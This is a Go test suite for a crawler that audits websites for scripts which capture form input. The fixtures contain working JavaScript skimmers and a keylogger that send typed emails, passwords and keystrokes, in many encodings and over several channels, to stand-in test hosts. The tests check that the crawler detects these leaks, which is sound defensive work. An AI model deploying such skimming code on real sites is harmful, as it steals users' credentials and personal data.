package browser

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"trackaudit/crawler/evidence"
)

// encoders are how a typed value may be written, in JavaScript: enc gives text or bytes for the value v.
var encoders = []struct{ name, js string }{
	{"plain", "v"},
	{"url", "encodeURIComponent(encodeURIComponent(v))"},
	{"\\u escapes", `'{"e":"'+[...v].map(c=>'\\u'+c.charCodeAt(0).toString(16).padStart(4,'0')).join('')+'"}'`},
	{"base64", "btoa(v)"},
	{"JSON in base64", "btoa(JSON.stringify({field:'email',value:v}))"},
	{"hex", "[...v].map(c=>c.charCodeAt(0).toString(16).padStart(2,'0')).join('')"},
	{"upper case", "v.toUpperCase()"},
	{"gzip", "await squeeze(v,'gzip')"},
	{"deflate", "await squeeze(v,'deflate')"},
	{"gzip in base64", "btoa(String.fromCharCode(...await squeeze(v,'gzip')))"},
	{"MD5", "md5(v)"},
	{"SHA-1", "await digest(v,'SHA-1')"},
	{"SHA-256", "await digest(v,'SHA-256')"},
	{"SHA-256 in base64", "btoa(String.fromCharCode(...new Uint8Array(await crypto.subtle.digest('SHA-256',new TextEncoder().encode(v)))))"},
}

// channels are how it may be sent, text or bytes; an image takes text only.
var channels = []struct{ name, js string }{
	{"fetch", "fetch('OTHER/fetch',{method:'POST',mode:'no-cors',body:e})"},
	{"XHR", "(()=>{const x=new XMLHttpRequest();x.open('POST','OTHER/xhr');x.send(e)})()"},
	{"beacon", "navigator.sendBeacon('OTHER/beacon',e)"},
	{"image", "new Image().src='OTHER/image?e='+encodeURIComponent(typeof e==='string'?e:btoa(String.fromCharCode(...e)))"},
	{"WebSocket", "socket.then(s=>s.send(e))"},
}

const formHelpers = `
const hex=b=>[...new Uint8Array(b)].map(x=>x.toString(16).padStart(2,'0')).join('');
const digest=async(v,a)=>hex(await crypto.subtle.digest(a,new TextEncoder().encode(v)));
const squeeze=async(v,f)=>new Uint8Array(await new Response(new Blob([v]).stream().pipeThrough(new CompressionStream(f))).arrayBuffer());
const socket=new Promise(r=>{const s=new WebSocket('wss://in.elsewhere.test/socket');s.onopen=()=>r(s)});
function md5(t){ // RFC 1321
  const k=[],s=[7,12,17,22,5,9,14,20,4,11,16,23,6,10,15,21];for(let i=0;i<64;i++)k[i]=Math.floor(Math.abs(Math.sin(i+1))*4294967296);
  const b=[...new TextEncoder().encode(t)],n=b.length*8;b.push(128);while(b.length%64!==56)b.push(0);for(let i=0;i<8;i++)b.push(i<4?n>>>8*i&255:0);
  let h=[0x67452301,0xefcdab89,0x98badcfe,0x10325476];
  for(let o=0;o<b.length;o+=64){const m=[];for(let i=0;i<16;i++)m[i]=b[o+4*i]|b[o+4*i+1]<<8|b[o+4*i+2]<<16|b[o+4*i+3]<<24;let [a,c,d,e]=h;
    for(let i=0;i<64;i++){const r=i>>4;let f=r===0?c&d|~c&e:r===1?e&c|~e&d:r===2?c^d^e:d^(c|~e),g=r===0?i:r===1?(5*i+1)%16:r===2?(3*i+5)%16:7*i%16;
      f=f+a+k[i]+m[g]|0;a=e;e=d;d=c;const q=s[4*r+i%4];c=c+(f<<q|f>>>32-q)|0;}
    h=[h[0]+a|0,h[1]+c|0,h[2]+d|0,h[3]+e|0];}
  return h.map(x=>[0,8,16,24].map(q=>(x>>>q&255).toString(16).padStart(2,'0')).join('')).join('');
}`

// TestForms: a typed value is found in every encoding over every channel, in a form that nobody submits. By default a
// third of the pairs is tried, with each encoding and each channel among them; all with TRACKAUDIT_ALL=1.
func TestForms(t *testing.T) {
	web.plant.handle(plantOther+"/socket", acceptSocket)
	b := own(t, "shell", func(o *Options) { o.Forms = true })
	found, all := 0, 0
	lost := make([]string, len(encoders)*len(channels))
	inParallel(len(lost), 3, func(i int) {
		e, ch := encoders[i/len(channels)], channels[i%len(channels)]
		if (i/len(channels)+i%len(channels))%3 != 0 && os.Getenv("TRACKAUDIT_ALL") == "" {
			lost[i] = "not tried"
			return
		}
		at := fmt.Sprintf("/form%d", i)
		send := strings.ReplaceAll(ch.js, "OTHER", "https://"+plantOther+at)
		web.plant.put(plantThird+at+".js", formHelpers+"document.querySelector('[name=mail]').addEventListener('blur',async ev=>{const v=ev.target.value,e="+e.js+";"+send+"})")
		url := web.plant.put(plantSite+at, document("<form action='/submitted'><input type=email name=mail><input type=submit></form><script src='https://"+plantThird+at+".js'></script>"))
		r, err := b.Visit(t.Context(), Job{ID: "v0001", URL: url, Choice: evidence.ChoiceNone})
		if err != nil || !r.Visit.Complete {
			lost[i] = fmt.Sprint(err, r.Visit.Detail)
			return
		}
		lost[i] = "no flow"
		for _, f := range r.Visit.Flows {
			if f.From == "canary:email:mail" && f.Host == plantOther {
				lost[i] = ""
			}
		}
		o := find(r.Visit, evidence.FormCapture, plantOther)
		if lost[i] == "" && (o == nil || o.Setter != plantThird && ch.name != "WebSocket") {
			lost[i] = fmt.Sprintf("capture: %+v", o)
		}
	})
	for i, why := range lost {
		if why == "not tried" {
			continue
		}
		if all++; why == "" {
			found++
			continue
		}
		t.Errorf("%s by %s: %s", encoders[i/len(channels)].name, channels[i%len(channels)].name, why)
	}
	t.Logf("%d of %d encodings over channels found", found, all)
	if n := len(web.plant.log("/submitted")); n > 0 {
		t.Errorf("a form was submitted %d times", n)
	}
}

// TestFormsKeyByKey: a logger that sends one key at a time is found; a search box that asks its own site is no
// capture; without Forms nothing is typed.
func TestFormsKeyByKey(t *testing.T) {
	b := own(t, "shell", func(o *Options) { o.Forms = true })
	page := web.plant.put(plantSite+"/keys", document(`<input name=company><iframe src='https://`+plantDeep+`/keys-frame'></iframe><script src='https://`+plantThird+`/keys.js'></script>`))
	web.plant.put(plantThird+"/keys.js", "addEventListener('keydown',e=>navigator.sendBeacon('https://"+plantOther+"/keys',JSON.stringify({key:e.key,t:Date.now()})))")
	web.plant.put(plantDeep+"/keys-frame", "<input type=password name=pw oninput=\"navigator.sendBeacon('https://"+plantOther+"/frame-keys',this.value)\">")
	v := visit(t, b, page, evidence.ChoiceNone)
	got := map[string]string{}
	for _, f := range v.Flows {
		got[f.From] = f.Encoding
	}
	if got["canary:text:company"] != "keys" || got["canary:password:pw"] != "plain" {
		t.Errorf("flows: %v", got)
	}

	search := web.plant.put(plantSite+"/search", document(`<form role=search><input name=q oninput="fetch('/suggest?q='+this.value)"></form>`))
	v = visit(t, b, search, evidence.ChoiceNone)
	if o := find(v, evidence.FormCapture, ""); o != nil || len(web.plant.log("/suggest")) == 0 {
		t.Errorf("a search box of the site's own: %d questions, capture %+v", len(web.plant.log("/suggest")), o)
	}
	for _, o := range v.Observations {
		if o.Technology == evidence.FormCapture {
			t.Errorf("a search box of the site's own is called a capture by %s", o.Host)
		}
	}

	before := len(web.plant.log("/keys"))
	visit(t, shared(t, "shell"), page, evidence.ChoiceNone)
	strokes := 0
	for _, h := range web.plant.log("/keys")[before:] {
		if h.method != "POST" {
			continue
		}
		if strokes++; !strings.Contains(h.body, `"Shift"`) || strokes > 2 { // touched and left by a key that writes nothing
			t.Errorf("key %d was sent though nothing may be typed: %s", strokes, h.body)
		}
	}
}

// TestFormsPlaces: fields are filled wherever they are: in a foreign frame, one nested in it, a sandboxed one, one that
// asks for a process of its own, an open shadow tree. All frames share the page's process, as its clock demands.
func TestFormsPlaces(t *testing.T) {
	eachMode(t, func(t *testing.T, mode string) {
		page := formPlaces(mode)
		b := own(t, mode, func(o *Options) { o.Forms = true })
		v := visit(t, b, page, evidence.ChoiceNone)
		for _, r := range v.Requests {
			if r.Target == "frame" {
				t.Errorf("a frame is in another process: %s", r.URL)
			}
		}
		if missing := unfilled(v); len(missing) > 0 {
			t.Errorf("not filled: %v; flows %v", missing, v.Flows)
		}
	})
}

// TestFormsApart: where something else forces frames into processes of their own (a policy can), their fields are filled
// through their own sessions. The page's clock does not wait for such frames: one that comes late is missed, and so
// three visits are made.
func TestFormsApart(t *testing.T) {
	eachMode(t, func(t *testing.T, mode string) {
		page := formPlaces("apart-" + mode)
		b := own(t, mode, func(o *Options) { o.Forms, o.more = true, []string{"--site-per-process"} })
		missing := formFields
		for i := 0; i < 3 && len(missing) > 0; i++ {
			v := visit(t, b, page, evidence.ChoiceNone)
			if !slices.ContainsFunc(v.Requests, func(r evidence.Request) bool { return r.Target == "frame" }) {
				t.Fatal("no frame is in another process")
			}
			now := unfilled(v)
			missing = slices.DeleteFunc(slices.Clone(missing), func(f string) bool { return !slices.Contains(now, f) })
		}
		if len(missing) > 0 {
			t.Errorf("never filled: %v", missing)
		}
	})
}

// formFields are the fields of formPlaces.
var formFields = []string{"main", "open", "outer", "inner", "boxed", "apart"}

// unfilled are the fields of formPlaces whose value did not leave.
func unfilled(v evidence.Visit) []string {
	return slices.DeleteFunc(slices.Clone(formFields), func(name string) bool {
		return slices.ContainsFunc(v.Flows, func(f evidence.Flow) bool { return f.Host == plantOther && f.From == "canary:text:"+name })
	})
}

// formPlaces plants a page with a field in each place, whose values leave when they lose the focus.
func formPlaces(name string) string {
	at := "/places-" + name
	web.plant.put(plantThird+at+".js", `for (const e of document.querySelectorAll('input')) watch(e);
function watch(e) { e.addEventListener('blur', () => fetch('https://`+plantOther+at+`', {method: 'POST', mode: 'no-cors', body: e.name + '=' + e.value})) }`)
	tag := "<script src='https://" + plantThird + at + ".js'></script>"
	field := func(name, more string) string {
		return document("<input name=" + name + " style='position:fixed;left:9px;top:9px'>" + more + tag)
	}
	frame := func(host, what, more string) string {
		return "<iframe " + more + " width=600 height=300 src='https://" + host + at + what + "'></iframe>"
	}
	web.plant.put(plantOther+at+"-inner", field("inner", ""))
	web.plant.put(plantDeep+at+"-outer", field("outer", frame(plantOther, "-inner", "style='position:fixed;left:9px;top:60px'")))
	web.plant.put(plantThird+at+"-boxed", field("boxed", ""))
	web.plant.put("own.foreign.test"+at+"-apart", field("apart", ""), "Origin-Agent-Cluster: ?1")
	return web.plant.put(plantSite+at, document("<input name=main><x-open></x-open>"+frame(plantDeep, "-outer", "")+frame(plantThird, "-boxed", "sandbox='allow-scripts'")+
		frame("own.foreign.test", "-apart", "")+tag+
		"<script>{const r = document.querySelector('x-open').attachShadow({mode: 'open'}); r.innerHTML = '<p><input name=open></p>'; watch(r.querySelector('input'))}</script>"))
}
